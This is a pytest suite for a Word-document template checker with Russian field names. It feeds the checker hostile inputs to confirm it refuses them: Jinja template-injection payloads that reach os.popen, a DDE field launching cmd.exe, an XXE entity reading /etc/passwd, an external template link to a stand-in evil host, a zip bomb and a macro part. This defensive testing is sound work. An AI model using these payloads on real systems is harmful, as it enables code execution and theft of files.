"""What is let through as a template, what is not, and in which words."""

from __future__ import annotations

from io import BytesIO
from typing import Any

import docx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from duet.base.files.guard import Unreadable, check
from duet.stages.documents import template_checking as checking
from duet.stages.documents.drawing import words_of
from duet.stages.documents.template_checking import faults_of
from duet.stages.documents.template_reading import paper_of
from duet.stages.documents.template_samples import placeholders, sample_template
from duet.stages.documents.templating import render

from ..build import SAMPLE
from ..letters import LETTER, by_hand, runs, with_parts, word_file

RELATIONS, DOCUMENT = "word/_rels/document.xml.rels", "word/document.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def said(content: bytes) -> list[str]:
    return [fault.words for fault in faults_of(content, LETTER)]


def filled(content: bytes, **facts: Any) -> str:
    return words_of(paper_of(render(content, {**placeholders(LETTER), **facts}), "Письмо"))


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """A file with one more relation."""
    more = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return with_parts(
        word_file("{{ дата }}"), {RELATIONS: lambda text: text.replace("</Relationships>", more)}, [("word/more.xml", b"<a/>")]
    )


# --- what works -------------------------------------------------------------------------------------------------------


def test_fields_choices_and_repeated_rows_are_let_through():
    content = word_file(
        "Кому: {{ кому_имя|upper }}", "{%p if срочно and not (дата == номер) %}", "Срочно", "{%p else %}", "Не срочно", "{%p endif %}",
        "{% for строка in список %}{{ строка.имя }}{% if not loop.last %}; {% endif %}{% endfor %}.", 'Знак {{ "слова" }}.',
    )  # fmt: skip
    assert said(content) == []
    text = filled(content, кому_имя="Белова", дата="1", номер="2", список=[{"имя": "А", "должность": ""}, {"имя": "Б", "должность": ""}])
    assert text.splitlines() == ["Кому: БЕЛОВА", "Срочно", "А; Б.", "Знак слова."]


def test_a_field_cut_into_runs_is_one_field():
    content = runs("Кому: {{ кому", "_имя ", "}}, {", "{ дата }", "}")
    assert said(content) == []
    assert filled(content, кому_имя="Беловой", дата="вчера") == "Кому: Беловой, вчера"


def test_fields_stand_in_headers_and_footers_too():
    def build(made: Any) -> None:
        made.add_paragraph("Текст")
        made.sections[0].header.paragraphs[0].text = "{{ организация }}"
        made.sections[0].footer.paragraphs[0].text = "{{ нет_такого }}"

    content = by_hand(build)
    assert said(content) == ["Поля «нет_такого» нет."]
    right = with_parts(content, {"word/footer1.xml": lambda text: text.replace("нет_такого", "дата")})
    assert said(right) == []
    made = docx.Document(BytesIO(render(right, {**placeholders(LETTER), "организация": "Школа & Co"})))
    assert made.sections[0].header.paragraphs[0].text == "Школа & Co"


def test_our_text_as_a_template_has_no_faults_and_says_the_same():
    content = sample_template(LETTER)
    assert said(content) == []
    listed = [{"имя": "Белова А. С.", "должность": "учитель"}, {"имя": "Ким Р. О.", "должность": "логопед"}]
    assert "Список: Белова А. С. (учитель), Ким Р. О. (логопед)." in filled(content, список=listed)
    assert "Список: ." in filled(content, список=[])
    assert faults_of(sample_template(SAMPLE), SAMPLE) == []


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=60), st.text(st.characters(categories=["L", "P", "S", "Z"]), max_size=40))
def test_whatever_a_fact_says_the_document_opens_and_says_it(first: str, second: str):
    content = render(CONTENT, {**placeholders(LETTER), "кому_имя": first, "о_чём": second})
    made = docx.Document(BytesIO(content))
    assert len(made.paragraphs) == 2
    assert "{{ 7*7 }}" in words_of(paper_of(render(CONTENT, {**placeholders(LETTER), "о_чём": "{{ 7*7 }}"}), ""))


CONTENT = word_file("Кому: {{ кому_имя }}", "О чём: {{ о_чём }}")


UNPAIRED = "К каждому «{% if … %}» нужен «{% endif %}», к каждому «{%tr for … %}» — «{%tr endfor %}». Проверьте, чего не хватает."


# --- faults in the text -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "paragraph, words",
    [
        ("{{ кому_имею }}", "Поля «кому_имею» нет. Может быть, «кому_имя»?"),
        ("{{ абракадабра }}", "Поля «абракадабра» нет."),
        ("{{ дата", "Скобки не закрыты: к каждой «{{» нужна «}}», к каждой «{%» — «%}»."),
        ("{{ дата }} }}", "Скобки не закрыты: к каждой «{{» нужна «}}», к каждой «{%» — «%}»."),
        ("{{ дата номер }}", "Программа не понимает «{{ дата номер }}». В скобках должно стоять одно имя поля."),
        ("{{ }}", "Программа не понимает «{{ }}». В скобках должно стоять одно имя поля."),
        ("{% if срочно %}", UNPAIRED),
        ("{% endif %}", UNPAIRED),
        ("{{ дата }}{% if срочно %}", UNPAIRED),
        ("{% вставить дата %}", "Программа не понимает «{% вставить дата %}». Можно писать только if, else, for и их концы."),
        ("{{r дата }}", "Программа не понимает «{{r дата }}». Уберите его или напишите одно имя поля: «{{ дата }}»."),
        ("{% colspan дата %}", "Программа не понимает «{% colspan дата %}». Уберите его или напишите одно имя поля: «{{ дата }}»."),
        ("{# тайное #}", "Программа не понимает «{# тайное #}». Уберите его или напишите одно имя поля: «{{ дата }}»."),
        ("{{ список }}", "«список» — это таблица. Её строки печатает «{%tr for строка in список %}»."),
        ("{% for а in список %}{{ а }}{% endfor %}", "«а» — это строка таблицы. Напишите, какой её столбец: «а.номер»."),
        ("{% for а in список %}{{ а.имечко }}{% endfor %}", "Поля «а.имечко» нет."),
        ("{% for а in списки %}{{ а.имя }}{% endfor %}", "Поля «списки» нет. Может быть, «список»?"),
        ("{{ срочно }}", "«срочно» — это выбор, а не слова. Напишите «{% if срочно %} … {% endif %}»."),
    ],
)  # fmt: skip
def test_a_mistake_is_named_with_its_place(paragraph: str, words: str):
    faults = faults_of(word_file("Первый абзац", paragraph), LETTER)
    assert [fault.words for fault in faults] == [words]
    assert faults[0].place in (f"абзац 2: «{paragraph}»", "")


def test_what_is_seen_without_understanding_the_whole_is_told_together():
    faults = said(word_file("{{ дата", "{{ тайна }}, {{ срочно }}", "{% set а = 1 %}", "{% if срочно %}"))
    assert [words[:24] for words in faults] == [
        "Скобки не закрыты: к каж",
        "Поля «тайна» нет.",
        "«срочно» — это выбор, а ",
        "Программа не понимает «{",
    ]
    assert len(said(word_file("{% if срочно %}", "{{ тайна }}"))) == 2


def test_every_fault_is_told_once_and_a_long_paragraph_is_cut():
    faults = faults_of(word_file("{{ тайна }} " + "слово " * 40, "{{ тайна }}"), LETTER)
    assert [(fault.words, len(fault.place) < 130, fault.place[-2:]) for fault in faults] == [("Поля «тайна» нет.", True, "…»")]


@pytest.mark.parametrize(
    "attack",
    [
        "{{ дата.__class__.__mro__[1].__subclasses__() }}",
        "{{ ''.__class__ }}",
        "{{ дата['__class__'] }}",
        "{{ self }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ range(10) }}",
        "{{ 'а' * 999999999 }}",
        "{{ 7*7 }}",
        "{{ дата ~ номер }}",
        "{{ дата or номер }}",
        "{{ not срочно }}",
        "{{ дата if срочно else номер }}",
        "{{ дата|replace('а', 'б') }}",
        "{{ дата|attr('__class__') }}",
        "{{ (дата, номер) }}",
        "{{ строка.имя }}",
        "{{ loop.index }}",
        "{% if дата > срочно %}а{% endif %}",
        "{% if дата in номер %}а{% endif %}",
        "{% if дата is defined %}а{% endif %}",
        "{% set a = дата %}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% macro a() %}{% endmacro %}",
        "{% filter upper %}а{% endfilter %}",
        "{% with %}{% endwith %}",
        "{% for а in дата %}б{% endfor %}",
        "{% for а in (1, 2) %}б{% endfor %}",
        "{% for а, б in список %}в{% endfor %}",
        "{% for а in список if а.имя %}б{% endfor %}",
        "{% for а in список %}б{% else %}в{% endfor %}",
        "{% for а in список recursive %}б{% endfor %}",
        "{% for а in список %}{% for б in список %}в{% endfor %}{% endfor %}",
        "{% for а in список %}{{ loop.index }}{% endfor %}",
        "{% for а in список %}{{ а.имя.__class__ }}{% endfor %}",
        "{% if " + "(" * 3000 + "дата" + ")" * 3000 + " %}а{% endif %}",
        "{% if срочно %}" * 150 + "{% endif %}" * 150,
    ],
)
def test_nothing_but_fields_choices_and_rows_is_let_through(attack: str):
    assert said(word_file(attack))


def test_too_many_fields_are_too_many():
    assert said(word_file(*["{{ дата }}" * 50] * 41)) == [checking.MANY]


def test_a_repeated_piece_must_not_be_large():
    assert said(word_file("{%p for а in список %}", *["слово " * 800] * 45, "{%p endfor %}")) == [checking.LONG_ROW]


def test_a_template_is_no_book():
    numbers = iter(range(10**9))
    assert said(word_file(*[" ".join(f"слово{next(numbers)}" for _ in range(4000)) for _ in range(60)])) == [checking.LARGE]


# --- faults in the file -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "subDocument", "aFChunk"])
def test_nothing_is_taken_from_elsewhere(kind: str):
    assert said(related(kind, "http://evil.example/x.dotm")) == [checking.OUTSIDE]


def test_a_link_that_people_click_is_let_through():
    assert said(related("hyperlink", "https://edu.example/")) == []


@pytest.mark.parametrize("kind", ["aFChunk", "oleObject", "package", "control"])
def test_nothing_is_put_inside(kind: str):
    content = related(kind, "more.xml", "")
    types = '<Override PartName="/word/more.xml" ContentType="application/xml"/></Types>'
    assert said(with_parts(content, {"[Content_Types].xml": lambda text: text.replace("</Types>", types)})) == [checking.OBJECT]


def test_an_embedded_part_is_known_by_its_place():
    content = related("image", "embeddings/a.bin", "")
    content = with_parts(
        content, {"[Content_Types].xml": lambda text: text.replace("<Override", '<Default Extension="bin" ContentType="a/b"/><Override', 1)}
    )
    assert said(with_parts(content, {}, [("word/embeddings/a.bin", b"x")])) == [checking.OBJECT]


FIELD = "<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>"


@pytest.mark.parametrize(
    "markup, words",
    [
        (FIELD.format("DDE", 'AUTO c:\\\\cmd.exe "/k calc"'), checking.FETCHING),
        ('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:/x "/></w:p>', checking.FETCHING),
        (FIELD.format("{{ о_чём", " }}"), checking.HIDDEN),
        ('<w:p><w:r><w:delText>{{ дата }}</w:delText></w:r></w:p>', checking.HIDDEN),
        ('<w:p><w:pPr><w:pStyle w:val="{{ дата }}"/></w:pPr></w:p>', checking.HIDDEN),
        ("<w:p><!-- {{ 7*7 }} --></w:p>", checking.HIDDEN),
        ("<w:p><w:r>{% set a = 1 %}</w:r></w:p>", checking.HIDDEN),
    ],
)  # fmt: skip
def test_a_field_stands_only_in_the_text_and_fetches_nothing(markup: str, words: str):
    assert said(with_parts(word_file("Текст"), {DOCUMENT: lambda text: text.replace("<w:sectPr", f"{markup}<w:sectPr", 1)})) == [words]


def test_what_word_says_in_single_braces_and_in_comments_is_no_field():
    markup = '<w:p w:rsidR="{28A0092B}"><!-- a --><w:r><w:t>Текст {в скобках}</w:t></w:r></w:p>'
    assert said(with_parts(word_file("Текст"), {DOCUMENT: lambda text: text.replace("<w:sectPr", f"{markup}<w:sectPr", 1)})) == []


def test_properties_of_the_file_are_not_filled():
    content = with_parts(word_file("{{ дата }}"), {"docProps/core.xml": lambda text: text.replace("Шаблон", "{{ дата }}")})
    assert said(content) == [checking.PROPERTIES]


def test_entities_are_refused_in_any_part():
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    for part in (DOCUMENT, RELATIONS, "docProps/core.xml"):
        content = with_parts(word_file("{{ дата }}"), {part: lambda text: text.replace("?>", f"?>{entity}", 1)})
        assert len(said(content)) == 1, part


def test_a_bomb_is_refused_by_its_size():
    bomb = with_parts(word_file("{{ дата }}"), {}, [("word/media/a.png", b"\0" * (60 * 2**20))])
    assert len(said(bomb)) == 1
    assert len(bomb) < 2**20


def test_a_renamed_file_with_macros_does_not_pass_the_guard():
    content = with_parts(word_file("{{ дата }}"), {}, [("word/vbaProject.bin", b"x")])
    with pytest.raises(Unreadable):
        check(content, "template.docx")


def test_a_torn_file_is_told_in_plain_words():
    torn = with_parts(word_file("{{ дата }}"), {"_rels/.rels": lambda text: text.replace("document.xml", "nothing.xml")})
    assert said(torn) == [checking.UNFIT]


def test_what_cannot_be_filled_is_not_kept():
    assert said(word_file("{% if срочно %}" * 150 + "{% endif %}" * 150)) == [checking.UNFIT]
